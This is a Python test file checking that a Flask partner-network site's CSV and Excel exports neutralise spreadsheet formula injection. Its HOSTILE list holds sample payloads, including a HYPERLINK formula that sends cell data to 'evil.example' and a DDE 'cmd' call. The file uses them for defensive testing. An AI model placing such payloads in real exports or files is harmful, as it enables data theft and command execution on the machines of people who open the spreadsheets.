"""No CSV cell the site or the CLI writes starts a formula: partner names from forms and
imports, link notes and leads typed by others go through ``core.spreadsheet_cells``."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from flask import Flask
from flask.testing import FlaskClient, FlaskCliRunner
from openpyxl import load_workbook

from core.extensions import db
from core.spreadsheet_cells import FORMULA_STARTS, csv_text, read_cell, safe_cell
from partners.leads.operations import create_lead
from partners.models import Link
from tests.factories import login, make_partner, make_user

HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "@SUM(1+1)",
    "-2+3",
    "+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]


def assert_no_formula(text: str, neutralised: int = 1) -> None:
    formulas = [cell for cell in cells(text) if cell.startswith(FORMULA_STARTS)]
    assert formulas == []
    assert sum(cell.startswith("'") for cell in cells(text)) >= neutralised


def test_the_rule_neutralises_text_and_keeps_numbers() -> None:
    assert [safe_cell(value) for value in HOSTILE] == ["'" + value for value in HOSTILE]
    assert [safe_cell(value) for value in (-2, 2.5, None, "Tongji", "")] == [
        -2, 2.5, None, "Tongji", ""
    ]  # fmt: skip
    assert cells(csv_text(["=a"], [["-1", -1]])) == ["'=a", "'-1", "-1"]


def test_a_neutralised_cell_reads_back_as_written() -> None:
    assert [read_cell(safe_cell(value)) for value in (*HOSTILE, "+", "-", "'quoted", 3)] == [
        *HOSTILE, "+", "-", "'quoted", 3
    ]  # fmt: skip


@pytest.fixture
def hostile_network(app: Flask) -> None:
    partners = [
        make_partner(f"p{n}", name_en=name, name_zh=name, city_en=name)
        for n, name in enumerate(HOSTILE)
    ]
    db.session.add(
        Link(source_id=partners[0].id, target_id=partners[1].id, kind="mou", note_en=HOSTILE[3])
    )
    db.session.commit()


@pytest.mark.parametrize("table", ["nodes", "edges"])
def test_the_public_network_csv_holds_no_formula(
    client: FlaskClient, hostile_network: None, table: str
) -> None:
    response = client.get(f"/en/network/export.{table}.csv")
    assert response.status_code == 200
    # Edges hold ids, slugs, kinds and dates only: nothing typed by others to neutralise.
    assert_no_formula(response.get_data(as_text=True), neutralised=int(table == "nodes"))


def test_the_cli_network_csv_holds_no_formula(
    runner: FlaskCliRunner, hostile_network: None, tmp_path: Path
) -> None:
    result = runner.invoke(args=["graph", "export", "--format", "csv", "--output", str(tmp_path)])
    assert result.exit_code == 0, result.output
    for name in ("nodes.csv", "edges.csv"):
        text = (tmp_path / name).read_text(encoding="utf-8")
        assert_no_formula(text, neutralised=int(name == "nodes.csv"))


def test_the_leads_csv_holds_no_formula(client: FlaskClient) -> None:
    for value in HOSTILE:
        create_lead({"organization_en": value, "contact_name": value, "source": value})
    staff = make_user("staff@example.org")
    db.session.commit()
    login(client, staff)
    response = client.get("/en/staff/leads/export.csv")
    assert response.status_code == 200
    assert_no_formula(response.get_data(as_text=True))


def test_the_indicator_workbooks_hold_no_formula(runner: FlaskCliRunner, tmp_path: Path) -> None:
    for n, value in enumerate(HOSTILE):
        make_partner(f"base{n}", name_en=value, name_zh=value, alliance_member=True)
    db.session.commit()
    template = tmp_path / "template.xlsx"
    result = runner.invoke(args=["indicators", "template", "--output", str(template)])
    assert result.exit_code == 0, result.output
    texts = [
        cell
        for row in load_workbook(template).active.iter_rows(values_only=True)
        for cell in row
        if isinstance(cell, str)
    ]
    assert [cell for cell in texts if cell.startswith(FORMULA_STARTS)] == []
    assert sum(cell.startswith("'") for cell in texts) >= len(HOSTILE)
